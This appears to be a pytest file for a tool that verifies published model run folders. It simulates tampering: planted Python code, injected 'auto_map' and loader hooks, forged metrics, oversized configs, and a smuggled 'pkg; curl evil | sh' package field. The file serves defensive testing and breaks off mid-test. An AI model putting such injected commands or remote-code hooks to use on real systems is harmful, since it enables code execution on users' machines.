"""Run folders written by an attacker: code to run, edited figures, a FAIL marked PASS, forged data, malformed
records. Each is refused with one line, before any weight is loaded, or caught by `attncard verify`.

The run is the session's tiny GPT-2 run (tests/conftest.py); each test copies it and edits the copy the way
someone with write access to a repository could: the manifest is refreshed after every edit, so the files
always match it and only the checks of what they *say* stand between the edit and the user.
"""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from huggingface_hub import HfApi
from transformers import AutoModelForSequenceClassification

from attncard.pipeline.card.plots import write_plots
from attncard.pipeline.card.render import render_card
from attncard.pipeline.checks import predictions as predictions_module
from attncard.pipeline.checks.figures import official_metric_of
from attncard.pipeline.checks.predictions import read_predictions, write_predictions
from attncard.pipeline.cli import main
from attncard.pipeline.hub.signing import sign_run_folder
from attncard.pipeline.publish.push import push_tag
from attncard.pipeline.record.errors import (
    DataError,
    DownloadError,
    FailedCheckpointError,
    IncompatibleRunError,
    IntegrityError,
    ResultsError,
    SignatureError,
)
from attncard.pipeline.record.manifest import (
    CARD_FILE,
    PREDICTIONS_FILE,
    RESULTS_FILE,
    build_manifest,
    sha256_file,
)
from attncard.pipeline.record.results import ParametersV2, Results, Status
from attncard.pipeline.scoring.gate import verification_from_counts
from attncard.pipeline.scoring.metrics import label_metrics
from attncard.pipeline.verify.download import download_verified, load_verified
from attncard.pipeline.verify.reverify import reverify
from conftest import HUB_TOKEN, TINY_GPT2_REPO, commit_run_folder
from hub_server import LoopbackHub
from run_folders import copy_run, one_line, refresh_manifest, reseal

pytestmark = pytest.mark.filterwarnings("ignore:Use 'content=<...>' to upload raw bytes:DeprecationWarning")






def edit_json(run_dir: Path, name: str, edit: Callable[[dict], None]) -> None:
    data = json.loads((run_dir / name).read_text())
    edit(data)
    (run_dir / name).write_text(json.dumps(data, indent=2))
    if name != RESULTS_FILE:
        refresh_manifest(run_dir)


def forge(run_dir: Path, confusion: list[list[int]]) -> None:
    """Rewrites the run as a self-consistent run with another confusion matrix: metrics, verification,
    plots and card all recomputed, manifest refreshed. Only re-evaluating the model can tell."""
    results = Results.load(run_dir)
    labels = list(results.dataset.label_names)
    y_true = [t for t in range(2) for p in range(2) for _ in range(confusion[t][p])]
    y_pred = [p for t in range(2) for p in range(2) for _ in range(confusion[t][p])]
    metrics = label_metrics(y_true, y_pred, labels, *official_metric_of(results))
    results.metrics = dataclasses.replace(
        metrics, loss=results.metrics.loss, predictions_sha256=results.metrics.predictions_sha256
    )
    counts = [sum(row) for row in confusion]
    correct = confusion[0][0] + confusion[1][1]
    results.verification = verification_from_counts(
        counts, correct, labels, results.parameters.compression_factor, True
    )
    reseal(run_dir, results)






# --- row 2: no code from a repository ever runs, no prompt ever appears ------------------------------------


def test_remote_code_is_refused_without_a_prompt(tiny_gpt2_run, tmp_path, monkeypatch) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    # Answering the "run the custom code? [y/N]" prompt would run evil.py; no prompt may be asked at all.
    monkeypatch.setattr("builtins.input", lambda *_: pytest.fail("a prompt appeared"))
    (run_dir / "evil.py").write_text("import os\nos.system('touch /tmp/attncard-pwned')\n")
    edit_json(
        run_dir,
        "config.json",
        lambda c: c.update(model_type="evil", auto_map={"AutoConfig": "evil.EvilConfig"}),
    )
    with pytest.raises(IntegrityError, match=r"evil\.py is Python code; attncard runs no code"):
        load_verified(run_dir)
    (run_dir / "evil.py").unlink()
    refresh_manifest(run_dir)
    with pytest.raises(IntegrityError, match=r"config\.json has 'auto_map'"):
        load_verified(run_dir)
    edit_json(run_dir, "config.json", lambda c: c.pop("auto_map"))
    with pytest.raises(IncompatibleRunError, match=r"model_type 'evil'; attncard loads only the families"):
        load_verified(run_dir)


def test_tokenizer_auto_map_and_unknown_files_are_refused(tiny_gpt2_run, tmp_path) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    edit_json(run_dir, "tokenizer_config.json", lambda c: c.update(auto_map={"AutoTokenizer": ["x.T", None]}))
    with pytest.raises(IntegrityError, match=r"tokenizer_config\.json has 'auto_map'"):
        download_verified(run_dir)
    run_dir = copy_run(tiny_gpt2_run, tmp_path / "2")
    # Listed in the manifest, and still not a file a run folder holds: loaders read it by name.
    (run_dir / "special_tokens_map.json").write_text('{"pad_token": "a"}')
    refresh_manifest(run_dir)
    with pytest.raises(IntegrityError, match=r"special_tokens_map\.json is not a file a run folder holds"):
        download_verified(run_dir)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("megatron_core", "os", r"sets 'megatron_core' to 'os'"),
        ("megatron_config", {"x": 1}, r"sets 'megatron_config'"),
        ("auto_mapping", {"base_model_class": "X", "parent_library": "os"}, r"sets 'auto_mapping'"),
        ("target_modules", "c_attn|c_proj", r"targets 'c_attn\|c_proj', but results\.json records"),
        ("r", "16", r"has r = '16', of the wrong type"),
        ("peft_type", "LOHA", r"describes a 'LOHA'"),
        ("loader_hook", "os.system", r"has the unknown field 'loader_hook'"),
    ],
)
def test_adapter_config_is_checked_field_by_field(tiny_gpt2_run, tmp_path, capsys, field, value, message):
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    edit_json(run_dir, "adapter_config.json", lambda c: c.update({field: value}))
    with pytest.raises(IncompatibleRunError, match=message):
        download_verified(run_dir)
    assert main(["download", str(run_dir)]) == 2
    assert "adapter_config.json" in one_line(capsys)


def test_an_adapter_config_of_a_later_peft_is_told_from_an_injection(tiny_gpt2_run, gpt2_base, tmp_path):
    """A later peft writes fields this one does not know (peft 0.21 beside the floor 0.18): off (null,
    false) they are left out and the run loads; set, the run is refused naming both pefts, not as an
    injection; an unknown field in a config that names this peft is an injection, as above."""
    later = {"peft_version": "99.0", "future_config": None, "use_future": False}
    run_dir = copy_run(tiny_gpt2_run, tmp_path / "off")
    edit_json(run_dir, "adapter_config.json", lambda c: c.update(later))
    reseal(run_dir, Results.load(run_dir))  # the card lists every file's digest: as a later publish wrote it
    assert load_verified(run_dir, base_model=gpt2_base).model is not None

    run_dir = copy_run(tiny_gpt2_run, tmp_path / "set")
    edit_json(run_dir, "adapter_config.json", lambda c: c.update(later, future_config={"rank": 2}))
    with pytest.raises(
        IncompatibleRunError,
        match=r"written by peft 99\.0, whose field 'future_config' = "
        r"\{'rank': 2\} peft .* here does not know .*check the run with peft>=99\.0",
    ):
        download_verified(run_dir)

    run_dir = copy_run(tiny_gpt2_run, tmp_path / "this")
    edit_json(run_dir, "adapter_config.json", lambda c: c.update(future_config=None))
    with pytest.raises(IncompatibleRunError, match=r"has the unknown field 'future_config'"):
        download_verified(run_dir)


# --- row 3: results.json bound to the run with 128 bits --------------------------------------------------


@pytest.mark.slow
def test_run_tag_and_expected_digest_pin_results_json(hub: LoopbackHub, tiny_gpt2_run, tmp_path, fresh_cache):
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    tag = push_tag(run_dir)
    assert len(tag.rsplit("-", 1)[1]) == 32  # 128 bits of results.json's sha256
    digest = sha256_file(run_dir / RESULTS_FILE)
    commit = commit_run_folder(hub.endpoint, TINY_GPT2_REPO, run_dir)
    api = HfApi(endpoint=hub.endpoint, token=HUB_TOKEN)
    api.create_tag(TINY_GPT2_REPO, tag=tag, revision=commit)
    assert download_verified(TINY_GPT2_REPO, tag, cache_dir=fresh_cache()).results.repo_id == TINY_GPT2_REPO
    assert download_verified(TINY_GPT2_REPO, expected_sha256=digest, cache_dir=fresh_cache())

    # Someone with write access moves the tag to a commit whose results.json differs in one byte.
    hub.tamper(TINY_GPT2_REPO, RESULTS_FILE, (run_dir / RESULTS_FILE).read_bytes() + b" ")
    api.delete_tag(TINY_GPT2_REPO, tag=tag)
    api.create_tag(TINY_GPT2_REPO, tag=tag)
    with pytest.raises(IntegrityError, match=r"is not the file the tag run-.* was made for"):
        download_verified(TINY_GPT2_REPO, tag, cache_dir=fresh_cache())
    with pytest.raises(IntegrityError, match=r"not the expected " + digest[:32]):
        download_verified(TINY_GPT2_REPO, expected_sha256=digest[:32], cache_dir=fresh_cache())
    with pytest.raises(DownloadError, match=r"is not 32 to 64 lowercase hex digits"):
        download_verified(TINY_GPT2_REPO, expected_sha256=digest[:8], cache_dir=fresh_cache())


# --- row 4: the gate recomputes; verify compares every figure --------------------------------------------


def test_a_fail_marked_pass_is_refused(tiny_gpt2_run, tmp_path, capsys) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)

    def pass_at_30_percent(data: dict) -> None:
        data["verification"].update(correct=12, accuracy=0.3)
        data["metrics"]["accuracy"] = 0.3

    edit_json(run_dir, RESULTS_FILE, pass_at_30_percent)
    with pytest.raises(IntegrityError, match=r"contradicts itself: verification\.status is 'PASS_NO_COMP"):
        download_verified(run_dir)
    assert main(["download", str(run_dir)]) == 2
    assert "do not use this checkpoint" in one_line(capsys)


def test_a_consistent_fail_is_gated_on_the_recomputed_status(tiny_gpt2_run, tmp_path) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    forge(run_dir, [[8, 12], [12, 8]])  # 16 of 40 correct: below the threshold 0.737
    with pytest.raises(FailedCheckpointError, match=r"status is FAIL \(accuracy 0\.4000"):
        download_verified(run_dir)
    assert download_verified(run_dir, allow_failed=True).results.verification.status == Status.FAIL


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda d: d["verification"].update(p_value=1e-30), r"verification\.p_value is 1e-30"),
        (lambda d: d["verification"].update(wilson_high=0.99), r"verification\.wilson_high is 0\.99"),
        (lambda d: d["metrics"].update(f1_macro=0.99), r"metrics\.f1_macro is 0\.99"),
        (lambda d: d["metrics"]["per_class"][0].update(recall=1.0), r"metrics\.per_class\[0\]\.recall"),
        (lambda d: d["parameters"].update(compression_factor=2.0), r"compression_factor is 2\.0"),
        # The logged losses must be the averages of the recorded losses, as the card's table shows them.
        (lambda d: d["training"]["log"][0].update(loss=0.01), r"training\.log\[0\]\.loss is 0\.01"),
        # The evaluated split's rows per label must be the verification's class counts.
        (
            lambda d: d["dataset"]["statistics"]["validation"]["label_counts"].update(negative=39),
            r"dataset\.statistics\.validation\.label_counts\.negative is 39",
        ),
    ],
)
def test_edited_figures_in_results_json_are_refused(tiny_gpt2_run, tmp_path, edit, message) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    edit_json(run_dir, RESULTS_FILE, edit)
    with pytest.raises(IntegrityError, match=message):
        download_verified(run_dir)


def test_an_edited_card_is_refused(tiny_gpt2_run, tmp_path) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    card = (run_dir / CARD_FILE).read_text()
    f1 = Results.load(run_dir).metrics.f1_macro
    shown = f"{f1:.4f}"
    assert shown in card
    (run_dir / CARD_FILE).write_text(card.replace(shown, "0.9999"))
    refresh_manifest(run_dir)
    with pytest.raises(
        IntegrityError, match=r"the card does not show what results\.json records: README\.md line"
    ):
        download_verified(run_dir)


def test_an_edited_or_missing_license_file_is_refused(tiny_gpt2_run, tmp_path) -> None:
    """LICENSE says which terms apply; it is rendered from results.json, like the card."""
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    licence = run_dir / "LICENSE"
    licence.write_text(licence.read_text().replace("declared no licence", "declares the MIT licence"))
    refresh_manifest(run_dir)
    with pytest.raises(IntegrityError, match=r"LICENSE is not the licence file results\.json renders"):
        download_verified(run_dir)
    licence.unlink()
    refresh_manifest(run_dir)
    with pytest.raises(IntegrityError, match=r"LICENSE is not the licence file results\.json renders"):
        download_verified(run_dir)


def test_verify_recomputes_the_data_statistics_and_samples(tiny_gpt2_run, tiny_model_dir, tmp_path) -> None:
    """Token lengths and sample rows agree with nothing else in results.json: a consistent edit of them
    (card and plots rendered again) downloads, and only `verify`, which reads the data again, finds it."""
    _, glue = tiny_gpt2_run
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    results = Results.load(run_dir)
    results.dataset.statistics["validation"].tokens.mean = 3.5
    results.dataset.samples[0].texts["sentence"] = "the best film of the year ."
    reseal(run_dir, results)
    download_verified(run_dir)
    check = reverify(run_dir, data_dir=glue, base_model=tiny_model_dir("gpt2"))
    assert [problem.split(" ")[0] for problem in check.problems] == [
        "dataset.statistics.validation.tokens.mean",
        "dataset.samples[0].texts.sentence",
    ], check.problems


def test_verify_recomputes_every_figure_of_a_forged_run(tiny_gpt2_run, tiny_model_dir, tmp_path, capsys):
    _, glue = tiny_gpt2_run
    base_model = tiny_model_dir("gpt2")  # results.json records the base model by name and hash only
    forged = copy_run(tiny_gpt2_run, tmp_path)
    forge(forged, [[20, 0], [0, 20]])  # claims every row right
    check = reverify(forged, data_dir=glue, base_model=base_model)
    assert not check.matches, check.problems
    assert any(p.startswith("metrics.accuracy ") for p in check.problems), check.problems
    assert any(p.startswith("metrics.confusion_matrix[") for p in check.problems)
    assert main(["verify", str(forged), "--data-dir", str(glue), "--base-model", str(base_model)]) == 1
    out = capsys.readouterr().out
    for name in (
        "metrics.f1_macro",
        "metrics.per_class[1].precision",
        "verification.p_value",
        "verification.wilson_low",
        "verification.status",
        "metrics.loss",
    ):
        assert name in out


# --- row 5: verify never takes data from the repository --------------------------------------------------


def test_verify_refuses_data_other_than_the_recorded(
    tiny_gpt2_run, tiny_model_dir, tmp_path, capsys, monkeypatch
) -> None:
    run_dir, glue = tiny_gpt2_run
    base_model = tiny_model_dir("gpt2")
    monkeypatch.delenv("GLUE_DIR", raising=False)
    # A dev file whose labels are the model's own predictions would score 1.0; it is not the recorded file.
    forged_glue = tmp_path / "glue"
    shutil.copytree(glue, forged_glue)
    dev = forged_glue / "SST-2" / "dev.tsv"
    dev.write_text(dev.read_text().replace("\t0\n", "\t1\n"))
    with pytest.raises(DataError, match=r"are not the data the run was evaluated on"):
        reverify(run_dir, data_dir=forged_glue, base_model=base_model)
    argv = ["verify", str(run_dir), "--data-dir", str(forged_glue), "--base-model", str(base_model)]
    assert main(argv) == 2
    assert "pass --data-dir with the same GLUE files" in one_line(capsys)
    # Without --data-dir or GLUE_DIR nothing in (or named by) the repository is used.
    with pytest.raises(DataError, match=r"pass --data-dir \(data_dir=\) or set GLUE_DIR"):
        reverify(run_dir, base_model=base_model)


# --- row 8: typed loading --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (
            lambda d: d["metrics"].update(predictions_sha256=1234),
            r"metrics\.predictions_sha256 should be a str",
        ),
        (lambda d: d["module"].update(name=["none"]), r"module\.name should be a string, not a list"),
        (
            lambda d: d["module"].update(source_sha256="abc"),
            r"module\.source_sha256 is 'abc', which is not a sha256 \(64 lowercase hex digits\) or empty",
        ),
        (
            lambda d: d["module"].update(package="pkg; curl evil | sh"),
            r"module\.package is 'pkg; curl evil \| sh', which is not a package name",
        ),
        (lambda d: d["verification"].update(n="40"), r"verification\.n should be a whole number"),
        (lambda d: d["manifest"].update({"config.json": 7}), r"manifest\.config\.json should be a string"),
        (lambda d: d.update(metrics=[]), r"metrics should be an object, not a list"),
    ],
)
def test_malformed_results_json_is_one_line_and_exit_2(tiny_gpt2_run, tmp_path, capsys, edit, message):
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    edit_json(run_dir, RESULTS_FILE, edit)
    with pytest.raises(ResultsError, match=message):
        download_verified(run_dir)
    assert main(["download", str(run_dir)]) == 2
    one_line(capsys)
    assert main(["verify", str(run_dir)]) == 2
    one_line(capsys)


@pytest.mark.parametrize(
    ("pattern", "replacement", "message"),
    [
        # A figure that only looks finite: Python reads it as infinity, and a card would show `inf`.
        (
            r'"accuracy": [0-9.e-]+',
            '"accuracy": 1e999',
            r"1e999 is too large for a number and reads as infinity",
        ),
        # Two `metrics`: this reader takes the last, another JSON reader may take the first.
        (r'"metrics": \{', '"metrics": {"accuracy": 1.0}, "metrics": {', r"the key 'metrics' appears twice"),
    ],
)
def test_json_that_readers_disagree_on_is_one_line(
    tiny_gpt2_run, tmp_path, capsys, pattern, replacement, message
):
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    path = run_dir / RESULTS_FILE
    path.write_text(re.sub(pattern, replacement, path.read_text(encoding="utf-8"), count=1), encoding="utf-8")
    with pytest.raises(ResultsError, match=message):
        download_verified(run_dir)
    assert main(["verify", "--predictions", str(run_dir), "--data-dir", str(tiny_gpt2_run[1])]) == 2
    assert re.search(message, one_line(capsys))
    assert main(["lint", str(run_dir)]) == 1
    assert re.search(message, capsys.readouterr().out)


# --- row 11: signed runs -----------------------------------------------------------------------------------


@pytest.mark.slow
def test_push_signs_and_download_requires_the_signer(
    hub: LoopbackHub, tiny_gpt2_run, tmp_path, capsys, fresh_cache
) -> None:
    from signing_keys import make_key

    (tmp_path / "keys").mkdir()
    private, public = make_key(tmp_path / "keys", "publisher")
    _, other = make_key(tmp_path / "keys", "someone-else")
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    argv = ["push", str(run_dir), "--repo-id", TINY_GPT2_REPO, "--hub-endpoint", hub.endpoint]
    assert main([*argv, "--sign-key", str(private)]) == 0
    assert "model.sig" in hub.snapshot(TINY_GPT2_REPO)
    capsys.readouterr()

    download = [TINY_GPT2_REPO, "--hub-endpoint", hub.endpoint]
    assert main(["download", *download, "--require-key", str(public), "--output", str(tmp_path / "a")]) == 0
    assert ", verified" in capsys.readouterr().err
    assert (tmp_path / "a" / "model.sig").is_file()
    assert main(["download", *download, "--require-key", str(other)]) == 2
    assert "key" in one_line(capsys)
    # Without a required signer the signature is reported, and said to be unverified.
    assert main(["download", *download]) == 0
    assert "NOT verified" in capsys.readouterr().err

    # An unsigned run (the signature deleted by someone with write access) is refused when a key is required.
    HfApi(endpoint=hub.endpoint, token=HUB_TOKEN).delete_file("model.sig", TINY_GPT2_REPO)
    assert main(["download", *download, "--require-key", str(public)]) == 2
    assert "unsigned" in one_line(capsys)


# --- issue 30: nothing is allocated or parsed before it is checked ------------------------------------------


def render_card_again(run_dir: Path) -> None:
    """What an attacker does after editing a file the card names by its sha256: plots, card and manifest
    written again from results.json, so that everything agrees."""
    results = Results.load(run_dir)
    plots = write_plots(results, run_dir)
    results.manifest = {k: v for k, v in build_manifest(run_dir).items() if k != CARD_FILE}
    (run_dir / CARD_FILE).write_text(render_card(results, plots), encoding="utf-8")
    results.manifest = build_manifest(run_dir)
    results.save(run_dir)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        # 4,000,000 took the peak memory from 0.7 GB to 2.7 GB before transformers' RuntimeError.
        ("n_inner", 4_000_000, r"config\.json sets n_inner to 4000000, but the base model's config has None"),
        ("vocab_size", 401, r"config\.json sets vocab_size to 401, but the base model's config has 400"),
        ("n_positions", 10**9, r"sets n_positions to 1000000000, but the base model's config has 160"),
        ("n_layer", 3, r"config\.json sets n_layer to 3, but the base model's config has 2"),
        ("n_head", 8, r"config\.json sets n_head to 8, but the base model's config has 4"),
        ("pad_token_id", 400, r"config\.json sets pad_token_id to 400, but the base model's config has None"),
    ],
)
def test_config_json_that_does_not_fit_the_base_model_is_refused_before_allocating(
    tiny_gpt2_run, tiny_model_dir, tmp_path, capsys, monkeypatch, field, value, message
) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    edit_json(run_dir, "config.json", lambda c: c.update({field: value}))
    render_card_again(run_dir)
    base_model = tiny_model_dir("gpt2")
    download_verified(run_dir)  # the files agree with each other; only the base model's config can tell

    def no_model(*args, **kwargs):
        raise AssertionError("a model was built from an unchecked config.json")

    monkeypatch.setattr(AutoModelForSequenceClassification, "from_pretrained", no_model)
    with pytest.raises(IncompatibleRunError, match=message):
        load_verified(run_dir, base_model=base_model)
    _, glue = tiny_gpt2_run
    assert main(["verify", str(run_dir), "--data-dir", str(glue), "--base-model", str(base_model)]) == 2
    assert "do not use this checkpoint" in one_line(capsys)


def _tokenizer_json(run_dir: Path, edit: Callable[[dict], object]) -> str:
    data = json.loads((run_dir / "tokenizer.json").read_text())
    return json.dumps(edit(data))


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        (
            "tokenizer.json",
            lambda _: "{not json",
            r"tokenizer\.json is not a tokenizer the tokenizers library",
        ),
        (
            "tokenizer.json",
            lambda run: (run / "tokenizer.json").read_text()[:500],  # truncated
            r"tokenizer\.json is not a tokenizer .* \(EOF while parsing",
        ),
        (
            "tokenizer.json",
            lambda _: "[]",
            r"tokenizer\.json .* \(invalid type: sequence, expected struct Tok",
        ),
        (
            "tokenizer.json",
            lambda run: _tokenizer_json(run, lambda t: {**t, "model": {**t["model"], "type": "Evil"}}),
            r"tokenizer\.json .* \(data did not match any variant of untagged enum ModelUntagged",
        ),
        (
            "tokenizer.json",
            lambda run: _tokenizer_json(run, lambda t: {**t, "added_tokens": 5}),
            r"tokenizer\.json .* \(invalid type: integer `5`, expected a sequence",
        ),
        (
            "tokenizer.json",
            lambda _: '{"model":' * 100_000 + "1" + "}" * 100_000,
            r"recursion limit exceeded",
        ),
        (
            "tokenizer_config.json",
            lambda run: json.dumps(
                {**json.loads((run / "tokenizer_config.json").read_text()), "eos_token": 5}
            ),
            r"transformers cannot build the tokenizer .* \(Special token eos_token has to be",
        ),
        (
            "tokenizer_config.json",
            lambda run: json.dumps(
                {**json.loads((run / "tokenizer_config.json").read_text()), "added_tokens_decoder": {"7": 1}}
            ),
            r"transformers cannot build the tokenizer .* saved `added_tokens_decoder`",
        ),
    ],
)
@pytest.mark.slow
def test_a_malformed_tokenizer_is_one_line_and_exit_2(
    tiny_gpt2_run, tiny_model_dir, tmp_path, capsys, name, text, message
) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    (run_dir / name).write_text(text(run_dir))
    render_card_again(run_dir)
    base_model = tiny_model_dir("gpt2")
    with pytest.raises(IntegrityError, match=message):
        load_verified(run_dir, base_model=base_model)
    _, glue = tiny_gpt2_run
    assert main(["verify", str(run_dir), "--data-dir", str(glue), "--base-model", str(base_model)]) == 2
    assert "do not use this checkpoint" in one_line(capsys)


@pytest.mark.parametrize(
    ("output", "message"),
    [
        ("a-file/run", r"a-file is a file, not a folder, so nothing can be created below it"),
        ("a-file/deeper/run", r"a-file is a file, not a folder, so nothing can be created below it"),
        ("/proc/attncard-run", r"--output /proc/attncard-run: no folder can be created in /proc "),
        (
            "/proc/self/attncard-run",
            r"--output /proc/self/attncard-run: no folder can be created in /proc/self ",
        ),
    ],
)
def test_download_checks_the_output_folder_before_fetching(
    tiny_gpt2_run, tmp_path, capsys, monkeypatch, output, message
) -> None:
    (tmp_path / "a-file").write_text("not a folder")
    monkeypatch.chdir(tmp_path)

    def no_fetch(*args, **kwargs):
        raise AssertionError("the run was fetched before --output was checked")

    monkeypatch.setattr("attncard.pipeline.verify.download.download_verified", no_fetch)
    assert main(["download", str(tiny_gpt2_run[0]), "--output", output]) == 2
    assert re.search(message, one_line(capsys))
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a-file"]  # nothing written


@pytest.mark.parametrize("argv", [["download", ""], ["verify", ""], ["verify", "--predictions", ""]])
def test_an_empty_run_argument_is_not_the_current_folder(tiny_gpt2_run, tmp_path, capsys, monkeypatch, argv):
    # Run from inside a run folder: an empty argument must not check (or load) the folder one stands in.
    monkeypatch.chdir(copy_run(tiny_gpt2_run, tmp_path))
    assert main(argv) == 2
    assert "'' names no run" in one_line(capsys)


def test_a_signed_run_names_the_files_its_signature_does_not_cover(
    hub: LoopbackHub, tiny_gpt2_run, tmp_path, capsys, fresh_cache
) -> None:
    """The transport's bookkeeping is not part of the run: the Hub writes `.gitattributes` after signing, and
    `git clone` adds `.git/`. Nothing loads them, so they are ignored, and the report says so by name."""
    from signing_keys import make_key

    (tmp_path / "keys").mkdir()
    private, public = make_key(tmp_path / "keys", "publisher")
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    sign_run_folder(run_dir, private)
    (run_dir / ".git").mkdir()
    (run_dir / ".git" / "x").write_text("added after signing\n")
    assert main(["download", str(run_dir), "--require-key", str(public)]) == 0
    err = capsys.readouterr().err
    assert "verified; not covered and ignored: .git/ (1 file), a transport's bookkeeping" in err, err

    # On the Hub, someone with write access changes .gitattributes of a signed run.
    shutil.rmtree(run_dir / ".git")
    commit_run_folder(hub.endpoint, TINY_GPT2_REPO, run_dir)
    HfApi(endpoint=hub.endpoint, token=HUB_TOKEN).upload_file(
        path_or_fileobj=b"* filter=evil\n", path_in_repo=".gitattributes", repo_id=TINY_GPT2_REPO
    )
    output = tmp_path / "downloaded"
    argv = ["download", TINY_GPT2_REPO, "--hub-endpoint", hub.endpoint, "--require-key", str(public)]
    assert main([*argv, "--output", str(output)]) == 0
    err = capsys.readouterr().err
    assert "verified; not covered and ignored: .gitattributes, a transport's bookkeeping" in err, err
    assert not (output / ".gitattributes").exists()  # only the signed files are copied


def test_a_signature_nested_too_deeply_is_one_line(tiny_gpt2_run, tmp_path, capsys) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    (run_dir / "model.sig").write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(
        SignatureError, match=r"model\.sig: not a model-signing signature \(its JSON is nested"
    ):
        download_verified(run_dir)
    assert main(["download", str(run_dir)]) == 2
    assert "nested too deeply" in one_line(capsys)


def _large_predictions(tiny_gpt2_run, folder: Path, rows: int) -> Results:
    """A predictions.csv of `rows` random rows in `folder`, and the run's results.json made to agree."""
    from run_folders import consistent_results

    generator = torch.Generator().manual_seed(0)
    logits = torch.randn(rows, 2, generator=generator)
    labels = torch.randint(0, 2, (rows,), generator=generator).tolist()
    folder.mkdir()
    write_predictions(folder / PREDICTIONS_FILE, labels, logits)
    results = Results.load(tiny_gpt2_run[0])
    return consistent_results(results, labels, logits, list(results.dataset.label_names))


@pytest.mark.slow
def test_predictions_csv_is_read_in_a_fraction_of_its_size(tiny_gpt2_run, tmp_path) -> None:
    """Holding every line, field and float as Python objects took ten times the file (a million rows, 48 MB:
    +505 MB); streamed, the rows' compact result is about what stays."""
    results = _large_predictions(tiny_gpt2_run, tmp_path / "run", 100_000)
    size = (tmp_path / "run" / PREDICTIONS_FILE).stat().st_size
    tracemalloc.start()
    try:
        predictions = read_predictions(tmp_path / "run", results)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert len(predictions.labels) == 100_000
    assert peak < 3 * size, f"reading {size} bytes took {peak} bytes at the peak"


def test_predictions_csv_is_checked_across_blocks(tiny_gpt2_run, tmp_path) -> None:
    """Rows are checked a block at a time: a bad row past the first block is named by its own line."""
    block = predictions_module._BLOCK_ROWS
    rows = 3 * block + 5
    results = _large_predictions(tiny_gpt2_run, tmp_path / "run", rows)
    predictions = read_predictions(tmp_path / "run", results)
    assert len(predictions.predictions) == rows and tuple(predictions.logits.shape) == (rows, 2)
    path = tmp_path / "run" / PREDICTIONS_FILE
    lines = path.read_text().splitlines()
    row = 2 * block + 7
    fields = lines[row + 1].split(",")
    lines[row + 1] = (
        ",".join([*fields[:3], fields[4], fields[3]]) if fields[3] != fields[4] else lines[row + 1]
    )
    path.write_text("\n".join(lines) + "\n")
    with pytest.raises(IntegrityError, match=rf"line {row + 2} predicts \d, but its logits' first maximum"):
        read_predictions(tmp_path / "run", results)
    path.write_text("\n".join([*lines[: row + 1], *lines[row + 2 :]]) + "\n")
    with pytest.raises(IntegrityError, match=rf"line {row + 2} has index {row + 1}, expected {row}"):
        read_predictions(tmp_path / "run", results)


# --- schema versions: a run published by an older attncard keeps verifying ---------------------------------


# A commit of this repository that wrote schema 2 (the committed SST-2 cards record it).
SCHEMA_2_COMMIT = "ef6cbd3a85e112628777092b1b8d5d46ef33f8bf"


def as_schema_2(results: Results) -> None:
    """The run as schema 2 recorded it: one count of the layers with LoRA and the attention layers changed."""
    new = results.parameters
    results.schema_version = 2
    results.environment.git_commit = SCHEMA_2_COMMIT
    results.metrics.official = None  # recorded from schema 4 on
    results.parameters = ParametersV2(
        before=new.before,
        after=new.after,
        trainable=new.trainable,
        layers_changed=new.lora_layers + new.attention_layers_changed,
        compression_factor=new.compression_factor,
    )


def test_a_run_of_schema_2_keeps_verifying_with_the_card_it_was_published_with(tiny_gpt2_run, tmp_path):
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    results = Results.load(run_dir)
    as_schema_2(results)
    reseal(run_dir, results)  # as the attncard of schema 2 published it: its template, its label
    card = (run_dir / CARD_FILE).read_text(encoding="utf-8")
    assert "| Layers adapted by LoRA | 2 |" in card and "Layers with LoRA" not in card
    assert download_verified(run_dir).results.schema_version == 2  # the card rendered again, and equal


def test_schema_3_with_the_parameters_of_schema_2_is_refused(tiny_gpt2_run, tmp_path, capsys) -> None:
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    results = Results.load(run_dir)
    as_schema_2(results)
    reseal(run_dir, results)
    edit_json(run_dir, RESULTS_FILE, lambda data: data.update(schema_version=3))
    with pytest.raises(ResultsError, match=r"parameters of schema 3 hold exactly .*lora_layers"):
        download_verified(run_dir)
    assert main(["verify", str(run_dir)]) == 2
    one_line(capsys)


@pytest.mark.parametrize(
    ("commit", "version", "message"),
    [
        # A commit that wrote schema 4: the run's own, as an honest schema-4 run relabelled as schema 3.
        (
            None,
            "0.1.0",
            r"git_commit is '[0-9a-f]{40}(\+dirty)?', which is no commit of attncard that wrote schema 3",
        ),
        ("unknown", "0.1.0", r"git_commit is 'unknown', which is no commit of attncard that wrote schema 3"),
        ("0" * 40, "0.1.0", r"git_commit is '0{40}', which is no commit of attncard that wrote schema 3"),
        (
            SCHEMA_2_COMMIT,
            "0.2.0",
            r"attncard_version is '0\.2\.0', but schema 3 was written by attncard 0\.1\.0",
        ),
    ],
)
def test_a_schema_3_run_records_an_attncard_that_wrote_schema_3(
    tiny_gpt2_run, tmp_path, capsys, commit, version, message
):
    run_dir = copy_run(tiny_gpt2_run, tmp_path)
    results = Results.load(run_dir)
    results.schema_version = 3
